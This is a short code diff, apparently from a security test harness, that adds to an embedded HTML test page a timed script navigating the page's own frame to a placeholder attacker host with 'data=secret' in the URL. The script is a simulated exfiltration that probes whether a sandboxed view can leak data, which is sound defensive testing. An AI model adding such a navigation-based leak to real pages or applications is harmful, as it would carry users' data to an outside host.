@@ -119,6 +119,8 @@ const image = (id) => new Promise((resolve) => {{ const img = document.getElemen
 image("declared").then((r) => log("declared-image", r));
 image("undeclared").then((r) => log("undeclared-image", r));
 start().then(() => log("initialized", "done"));
+// Last, once the rest is told: carry what the view was shown away by navigating its own frame to that host.
+setTimeout(() => {{ log("navigate-self", "asked"); location.href = "{EVIL}/navigated-self?data=secret"; }}, 1500);
 </script></body></html>"""
 
 FLOOD = f"""<!doctype html>
